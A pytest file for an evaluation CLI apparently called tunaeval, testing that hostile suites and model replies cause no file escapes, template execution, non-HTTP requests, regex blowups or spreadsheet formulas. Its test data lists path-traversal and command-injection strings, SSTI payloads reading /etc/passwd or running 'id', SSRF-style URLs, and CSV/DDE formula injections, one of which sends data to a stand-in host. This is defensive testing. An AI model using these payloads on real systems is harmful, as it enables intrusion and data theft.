"""Suites and replies that mean harm: no file elsewhere, no code, no address, no endless search."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Tuna, here
from tests.faults import Answer, FaultServer, Seen, chat
from tests.faults.runs import asked, within
from tests.runs.whole_runs import lines
from tunaeval.errors import SuiteError
from tunaeval.runs.options import RunOptions
from tunaeval.tasks.suites.loading import load_suite

__all__ = ["here"]

ONCE = RunOptions(attempts=1, deadline_seconds=5)
IDS = [
    "../../outside", "..", "/etc/cron.d/x", "C:\\windows\\x", "~/x", "a/b/c", "nul\0byte", "CON",
    "aux.txt", "x" * 300, "Case", "case", "-rf", "$(id)", "`id`", "; id", "a\nb", ".", "run.json",
    "results.jsonl", "link", "%2e%2e%2fx", "．．／x", "a\u202eb", "x.lock", "*", "?", "<x>", "|x",
    "café", "cafe\u0301",
]  # fmt: skip
OWN = {"run.json", "results.jsonl", "tools.jsonl"}


def suite_of(folder: Path, *rows: dict[str, Any], **header: Any) -> Path:
    path = folder / "s.json"
    scenarios = [
        {"prompt": f"Say {n}.", "expected_tool": None, **row} for n, row in enumerate(rows)
    ]
    path.write_text(json.dumps({"name": "s", **header, "scenarios": scenarios}))
    return path


def files(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if not path.is_dir()}


def test_an_id_is_data_and_names_no_file(here: Tuna, tmp_path: Path) -> None:
    assert len(IDS) >= 30
    (tmp_path / "deep" / "er").mkdir(parents=True)
    outside = tmp_path / "secret"
    outside.write_text("as it was")
    suite = suite_of(tmp_path / "deep", *({"id": name} for name in IDS), name="../../outside")
    before = files(tmp_path)
    with FaultServer() as server, within(20):
        done = here("run", "--suite", str(suite), "--base-url", server.base_url, "--model", "m",
                    "--out", "deep/er/runs", "--quiet")  # fmt: skip
    assert done.returncode == 0, done.stderr
    (run,) = (tmp_path / "deep" / "er" / "runs").iterdir()
    inside = f"deep/er/runs/{run.name}/"
    assert files(tmp_path) - before == {inside + name for name in OWN}
    assert run.name.replace("-", "").replace(".", "").isalnum()
    for shape in ("html", "junit", "csv", "markdown"):
        assert here("report", str(run), f"--{shape}", "-o", f"deep/out.{shape}").returncode == 0
    shapes = {f"deep/out.{shape}" for shape in ("html", "junit", "csv", "markdown")}
    assert files(tmp_path) - before == {inside + name for name in OWN} | shapes
    assert sorted(line["scenario"] for line in lines(run)) == sorted(IDS)
    assert outside.read_text() == "as it was"


def test_a_run_directory_that_is_a_link_to_another_is_not_written_through(
    here: Tuna, tmp_path: Path
) -> None:
    """What was there stays: a directory in use is refused, wherever the name leads."""
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "mine.txt").write_text("mine")
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    suite = suite_of(tmp_path, {"id": "a"})
    with FaultServer() as server:
        for place in (("--resume", "link"), ("--out", "s.json")):
            done = here("run", "--suite", str(suite), "--base-url", server.base_url, "--model",
                        "m", *place)  # fmt: skip
            assert done.returncode == 2
    assert server.seen == []
    assert files(tmp_path / "elsewhere") == {"mine.txt"}


TEMPLATES = [
    "{{ 7 * 191 }}", "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% include '/etc/passwd' %}", "{{ range(10**9) | list }}", "{{ ''|attr('__class__') }}",
    "${7*191}", "#{7*191}", "<%= 7*191 %>", "{0.__class__}", "%(x)s %s", "{task}", "{tools}",
    "$HOME `id` $(id)",
]  # fmt: skip


@pytest.mark.parametrize("ask", ["api", "prompt", "schema"])
def test_no_text_of_a_suite_or_model_is_a_template(tmp_path: Path, ask: Any) -> None:
    spec = {"name": "f", "description": " ".join(TEMPLATES), "parameters": {"type": "object"}}
    rows = [{"id": f"t{n}", "prompt": one, "expected_tool": "f"} for n, one in enumerate(TEMPLATES)]
    path = suite_of(tmp_path, *rows, tools=[spec], system_prompt="\n".join(TEMPLATES))
    with FaultServer(then=chat("{{ 7 * 191 }}")) as server, within(10):
        report = asked(
            load_suite(path), server, RunOptions(ask=ask, attempts=2), out=tmp_path / "runs"
        )
    sent = [one.json for one in server.seen]
    assert len(sent) == 2 * len(TEMPLATES)
    assert {one["messages"][-1]["content"] for one in sent} >= set(TEMPLATES)
    assert all("1337" not in json.dumps(one) for one in sent)
    for one in sent:
        assert all(text in one["messages"][0]["content"] for text in TEMPLATES)
    again = [one["messages"][-1]["content"] for one in sent if len(one["messages"]) > 3]
    assert all(any(text in one for text in TEMPLATES) for one in again)
    assert report.results[0].attempts[0].message["content"] == "{{ 7 * 191 }}"


def test_no_template_runs_in_a_page(here: Tuna, tmp_path: Path) -> None:
    rows = [{"id": one, "prompt": one, "tags": [one]} for one in TEMPLATES]
    with FaultServer(then=chat(" ".join(TEMPLATES))) as server, within(10):
        done = here("run", "--suite", str(suite_of(tmp_path, *rows)), "--base-url",
                    server.base_url, "--model", TEMPLATES[0], "--out", "runs", "--report",
                    "page.html", "--report", "page.md", "--quiet")  # fmt: skip
    assert done.returncode == 0, done.stderr
    for page in ("page.html", "page.md"):
        text = (tmp_path / page).read_text()
        assert "1337" not in text
        assert "root:" not in text


ADDRESSES = [
    "file:///etc/passwd", "unix:///var/run/docker.sock", "ftp://127.0.0.1/v1", "gopher://127.0.0.1/",
    "//127.0.0.1/v1", "127.0.0.1:8000", "http://", "javascript:alert(1)", "data:,x",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_is_http_or_refused(here: Tuna, tmp_path: Path, address: str) -> None:
    suite = suite_of(tmp_path, {"id": "a"})
    done = here("run", "--suite", str(suite), "--base-url", address, "--model", "m")
    assert done.returncode == 2
    assert "the base URL" in done.stderr


@pytest.mark.parametrize("place", ["header", "row", "expect"])
def test_no_suite_says_whom_to_ask(tmp_path: Path, place: str) -> None:
    with FaultServer() as server:
        more = {"base_url": server.base_url}
        row: dict[str, Any] = {"id": "a", **(more if place == "row" else {})}
        if place == "expect":
            row = {"id": "a", "expect": {"none": True, **more}}
        path = suite_of(tmp_path, row, **(more if place == "header" else {}))
        if place == "expect":
            rows = json.loads(path.read_text())
            del rows["scenarios"][0]["expected_tool"]
            path.write_text(json.dumps(rows))
        with pytest.raises(SuiteError, match="base_url"):
            load_suite(path)
    assert server.connections == 0


def test_no_netrc_is_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login somebody password secret-of-netrc\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    with FaultServer() as server:
        report = asked(load_suite(suite_of(tmp_path, {"id": "a"})), server, ONCE)
    assert report.passed == 1
    assert "authorization" not in server.seen[0].headers


def _deep(schema: dict[str, Any], depth: int) -> dict[str, Any]:
    for _ in range(depth):
        schema = {"type": "array", "items": schema}
    return schema


LOOP = {"$ref": "#/$defs/a"}
EVIL = "(a+)+$"


def schemas(address: str) -> dict[str, dict[str, Any]]:
    return {
        "deep": _deep({"type": "string"}, 300),
        "a circle": {"$ref": "#/properties/x"},
        "a wide circle": {"anyOf": [{"$ref": "#/properties/x"}] * 20},
        "remote": {"$ref": f"{address}/schema.json"},
        "a file": {"$ref": "file:///etc/passwd#/x"},
        "an evil pattern": {"type": "string", "pattern": EVIL},
        "many evil patterns": {"type": "object", "patternProperties": {EVIL: {"pattern": EVIL}}},
        "a huge number": {"type": "integer", "minimum": 10**400, "multipleOf": 1e-300},
        "a huge choice": {"enum": [*range(50_000)]},
    }


@pytest.mark.parametrize("name", schemas(""))
def test_a_schema_costs_no_time_no_stack_and_no_request(tmp_path: Path, name: str) -> None:
    text = "a" * 40 + "!"
    call = {"name": "f", "arguments": {"x": text, text: text}}
    answer = chat(f"<tool_call>{json.dumps(call)}</tool_call>")
    with FaultServer(then=answer) as server, within(5):
        schema = schemas(server.base_url)[name]
        parameters = {"type": "object", "properties": {"x": schema}, "required": ["x"]}
        path = suite_of(
            tmp_path, {"id": "a", "expected_tool": "f"},
            tools=[{"name": "f", "parameters": parameters}],
        )  # fmt: skip
        report = asked(load_suite(path), server, ONCE, out=tmp_path / "runs")
    assert report.results[0].outcome in ("calls", "malformed")
    assert [seen.path for seen in server.seen] == ["/v1/chat/completions"]


def test_an_expectations_pattern_is_searched_in_linear_time(tmp_path: Path) -> None:
    call = {"name": "bash", "arguments": {"command": "a" * 100_000 + "!"}}
    expect = {"calls": [{"name": "bash", "arguments": {"command": {"$regex": EVIL}}}]}
    path = suite_of(tmp_path, {"id": "a", "expect": expect})
    rows = json.loads(path.read_text())
    del rows["scenarios"][0]["expected_tool"]
    path.write_text(json.dumps(rows))
    with FaultServer(then=chat(f"<tool_call>{json.dumps(call)}</tool_call>")) as server, within(5):
        report = asked(load_suite(path), server, ONCE)
    assert (report.results[0].outcome, report.results[0].ok) == ("calls", False)


FORMULAS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＠x", '=1+1";=1+1', '"=1+1', ";=1+1", '=DDE("cmd";"/c";"x")',
    "＋1", "－1", "=\u200b1", '=IMPORTXML("http://x","//a")', "+cmd|'/C x'!A", "-cmd|'/C x'!A",
]  # fmt: skip


def test_no_cell_of_a_table_begins_a_formula(here: Tuna, tmp_path: Path) -> None:
    """Wherever a suite or a model writes one: ids, tags, names, arguments, reasons, errors."""
    rows = [{"id": one, "prompt": one, "tags": [one], "group": one} for one in FORMULAS]

    def choose(seen: Seen) -> Answer | None:
        prompt = seen.json["messages"][-1]["content"]
        if prompt in FORMULAS[::3]:
            return Answer(json.dumps({"error": {"message": prompt}}).encode(), status=400)
        call = {"name": "bash", "arguments": {"command": prompt}}
        return chat(f"<tool_call>{json.dumps(call)}</tool_call>")

    with FaultServer(choose=choose) as server, within(10):
        here("run", "--suite", str(suite_of(tmp_path, *rows, name="=1+1")), "--base-url",
             server.base_url, "--model", "=1+1", "--out", "runs", "--quiet")  # fmt: skip
    (run,) = (tmp_path / "runs").iterdir()
    assert here("report", str(run), "--csv", "-o", "t.csv").returncode == 0
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8-sig") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) > 20 * 10
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    assert [cell for cell in cells if cell.startswith(starts)] == []
    assert sum("=1+1" in cell for cell in cells) > len(FORMULAS)
